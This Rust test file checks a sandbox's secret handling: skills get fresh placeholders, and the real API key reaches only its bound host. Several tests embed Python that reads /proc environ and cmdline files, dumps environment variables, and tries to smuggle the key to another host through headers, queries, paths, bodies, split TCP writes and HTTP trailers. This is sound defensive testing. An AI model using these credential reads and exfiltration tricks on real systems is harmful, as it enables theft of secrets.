//! Secrets that the skill uses and never sees.

use crate::claim;
use crate::network::{cell, network};
use crate::trial::{Grants, Trial};
use serde_json::{Value, json};
use skillcell_tests::{Cell, User, shared};

const NAME: &str = "SERVICE_API_KEY";

/// A value that no other test has.
fn secret(cell: &Cell) -> String {
    format!("real-{}-5b1f0c9e77a24d", cell.mark())
}

fn trial(cell: &Cell) -> Trial<'_> {
    let grants =
        Grants::egress("{domains: [api.example.com, other.example.com], ports: [443, 80, 8083]}")
            .asking(&format!(
                "secrets: [{{env: {NAME}, hosts: [api.example.com], in: [header, query]}}]"
            ));
    Trial::new(cell, grants).flags(&["--env", &format!("{NAME}={}", secret(cell))])
}

/// The same hosts and the same variable, of which nobody says that it is a secret.
fn open_trial(cell: &Cell) -> Trial<'_> {
    let rule = "{domains: [api.example.com, other.example.com], ports: [443, 80, 8083], http: [{methods: [GET, POST], paths: [\"/*\"]}]}";
    let mut grants = Grants::egress(rule).asking(&format!("env: [{NAME}]"));
    grants.operator.push_str(&format!("env: [{NAME}]\n"));
    Trial::new(cell, grants).flags(&["--env", &format!("{NAME}={}", secret(cell))])
}

fn ask(host: &str, tag: &str, more: Value) -> Value {
    let mut fields = json!({"url": format!("https://{host}/hello?tag={tag}"), "trust": "default"});
    for (name, value) in more.as_object().expect("fields") {
        fields[name] = value.clone();
    }
    fields
}

fn requests(tag: &str) -> Vec<Value> {
    network()
        .arrived(tag)
        .into_iter()
        .filter(|a| a["event"] == "request")
        .collect()
}

claim! {
    fn the_skill_sees_a_placeholder_that_is_new_in_every_call(cell) {
        let look = "
import os
def text(path):
    try:
        return open(path).read()
    except PermissionError:
        return ''
value = {'seen': os.environ[args['name']], 'all': dict(os.environ),
         'read': [text(f'/proc/{name}') for name in ('1/environ', '1/cmdline', 'self/environ', 'self/cmdline')]}
";
        let one = || {
            let report = trial(cell).step("look", "python", json!({"code": look, "args": {"name": NAME}})).inside();
            let seen = report.ok("look").clone();
            assert!(!report.outcome().stdout.contains(&secret(cell)), "{}", report.show());
            assert!(!report.outcome().stderr.contains(&secret(cell)), "{}", report.show());
            seen
        };
        let (first, second) = (one(), one());
        assert!(first["seen"].as_str().is_some_and(|s| s.len() >= 16), "{first}");
        assert_ne!(first["seen"], second["seen"]);
    }
}

claim! {
    fn the_real_value_arrives_at_the_bound_host_only_on_the_way_out(cell) {
        let tag = cell.mark();
        let key = format!("${{{NAME}}}");
        let trial = trial(cell)
            .step("seen", "variable", json!({"variable": NAME}))
            .step("header", "urllib", ask("api.example.com", &format!("{tag}-h"), json!({"headers": {"Authorization": format!("Bearer {key}")}})))
            .step("query", "urllib", ask("api.example.com", &format!("{tag}-q&apikey={key}"), json!({})));
        let report = trial.inside();
        report.ok("header");
        report.ok("query");
        report.nothing_denied();
        let placeholder = report.ok("seen").as_str().expect("text").to_owned();
        let arrived = requests(tag);
        assert_eq!(arrived.len(), 2, "{arrived:#?}");
        for request in &arrived {
            assert!(request.to_string().contains(&secret(cell)), "the real value arrives\n{request:#}");
            assert!(!request.to_string().contains(&placeholder), "the placeholder doesn't\n{request:#}");
        }
    }
}

claim! {
    fn a_placeholder_or_a_secret_on_its_way_elsewhere_is_stopped(cell) {
        let leaks = ["header", "query", "path", "body", "plain"];
        let steps = |trial: Trial<'_>, value: &str, tag: &str| trial
            .step("harmless", "urllib", ask("other.example.com", &format!("fine-{tag}"), json!({})))
            .step("header", "urllib", ask("other.example.com", &format!("leak-{tag}"), json!({"headers": {"X-Key": value}})))
            .step("query", "urllib", ask("other.example.com", &format!("leak-{tag}&k={value}"), json!({})))
            .step("path", "urllib", json!({"url": format!("https://other.example.com/{value}/leak-{tag}"), "trust": "default"}))
            .step("body", "urllib", ask("other.example.com", &format!("body-{tag}"), json!({"method": "POST", "body": format!("key={value}")})))
            .step("plain", "urllib", json!({"url": format!("http://other.example.com/hello?tag=leak-{tag}&k={value}")}))
            .inside();
        let (real, key) = (secret(cell), format!("${{{NAME}}}"));
        let carrying = |tag: &str| requests(tag).iter().filter(|r| r.to_string().contains(&real)).count();
        let free = steps(open_trial(cell), &key, &format!("{}-free", cell.mark()));
        for step in leaks {
            free.ok(step);
        }
        assert_eq!(carrying(&format!("{}-free", cell.mark())), leaks.len(), "the counter-proof arrives");
        for (kind, value) in [("placeholder", key.as_str()), ("real", real.as_str())] {
            let tag = format!("{}-{kind}", cell.mark());
            let report = steps(trial(cell), value, &tag);
            report.ok("harmless");
            for step in leaks {
                report.failed(step);
            }
            report.denied("other.example.com", "secret_leak");
            let leaked = requests(&format!("leak-{tag}"));
            assert!(leaked.is_empty(), "{leaked:#?}");
            // A body is scanned as it streams: its head may arrive, what it was to carry may not.
            assert_eq!(carrying(&tag), 0);
            assert!(requests(&format!("body-{tag}")).iter().all(|r| !r["body"].to_string().contains("key=")));
        }
    }
}

claim! {
    /// Cut in two by the network, or by the client.
    fn a_secret_in_pieces_is_stopped(cell) {
        let tag = format!("{}-pieces", cell.mark());
        let value = secret(cell);
        let (left, right) = value.split_at(value.len() / 2);
        let head = format!("POST /echo?tag={tag} HTTP/1.1\r\nHost: other.example.com\r\nContent-Length: {}\r\n\r\n{left}", value.len());
        let code = "
import socket, time
with socket.create_connection(('other.example.com', 80), timeout=5) as stream:
    stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    stream.sendall(args['left'].encode())
    time.sleep(0.2)
    stream.sendall(args['right'].encode())
    answer = stream.recv(4096)
    if b' 200 ' not in answer:
        raise ConnectionError('no answer')
";
        let step = json!({"code": code, "args": {"left": head, "right": right}});
        let arrived = || requests(&tag).iter().filter(|r| r["body"].to_string().contains(&value)).count();
        open_trial(cell).step("pieces", "python", step.clone()).inside().ok("pieces");
        assert_eq!(arrived(), 1, "the counter-proof arrives");
        let report = trial(cell).step("pieces", "python", step).inside();
        report.failed("pieces");
        report.denied("other.example.com", "secret_leak");
        assert_eq!(arrived(), 1);
    }
}

claim! {
    /// Only where the binding says: a body is no header.
    fn the_real_value_is_not_put_into_a_body(cell) {
        let step = ask("api.example.com", cell.mark(), json!({"method": "POST", "body": format!("key=${{{NAME}}}")}));
        let secret = secret(cell);
        let arrived = || requests(cell.mark()).iter().filter(|r| r.to_string().contains(&secret)).count();
        open_trial(cell).step("body", "urllib", step.clone()).inside().ok("body");
        assert_eq!(arrived(), 1, "the counter-proof arrives");
        trial(cell).step("body", "urllib", step).inside();
        assert_eq!(arrived(), 1);
    }
}

/// Behind a body is no place that a secret can be bound to, not even on the way to its own host.
#[test]
fn a_secret_behind_a_body_is_stopped() {
    let _shared = shared();
    let cell = cell(User::Caller);
    let steps = |trial: Trial<'_>, tag: &str| {
        let fields = |host: &str| {
            json!({"host": host, "port": 8083, "path": format!("/trailers?tag={tag}"), "trust": "default",
                "sum": format!("${{{NAME}}}")})
        };
        let mut trial = trial.with_libraries();
        for host in ["other.example.com", "api.example.com"] {
            for act in ["http1_trailers", "http2_trailers"] {
                trial = trial.step(&format!("{act} {host}"), act, fields(host));
            }
        }
        trial.inside()
    };
    let names = ["http1_trailers", "http2_trailers"]
        .into_iter()
        .flat_map(|act| ["other", "api"].map(|host| format!("{act} {host}.example.com")));
    let secret = secret(&cell);
    let arrived = || {
        let all = network().arrived(cell.mark());
        all.iter()
            .filter(|a| a.to_string().contains(&secret))
            .count()
    };
    let free = steps(open_trial(&cell), &format!("free-{}", cell.mark()));
    for name in names.clone() {
        free.ok(&name);
    }
    assert_eq!(arrived(), 4, "the counter-proof arrives");
    let report = steps(trial(&cell), &format!("held-{}", cell.mark()));
    for name in names {
        report.failed(&name);
    }
    report.denied("other.example.com", "secret_leak");
    report.denied("api.example.com", "secret_leak");
    assert_eq!(arrived(), 4);
}

#[test]
fn the_real_value_is_put_into_http_2_requests_too() {
    let _shared = shared();
    let cell = cell(User::Caller);
    let steps = |trial: Trial<'_>, tag: &str| {
        let key = || json!({"headers": {"X-Key": format!("${{{NAME}}}")}});
        trial
            .with_libraries()
            .step("header", "httpx2", ask("api.example.com", tag, key()))
            .step(
                "leak",
                "httpx2",
                ask("other.example.com", &format!("leak-{tag}"), key()),
            )
            .inside()
    };
    let free = steps(open_trial(&cell), &format!("free-{}", cell.mark()));
    free.ok("header");
    free.ok("leak");
    let tag = format!("held-{}", cell.mark());
    let report = steps(trial(&cell), &tag);
    assert_eq!(report.ok("header")["version"], "HTTP/2");
    report.failed("leak");
    report.denied("other.example.com", "secret_leak");
    let arrived = requests(&tag);
    assert_eq!(arrived.len(), 1, "{arrived:#?}");
    assert!(
        arrived[0].to_string().contains(&secret(&cell)),
        "{arrived:#?}"
    );
}
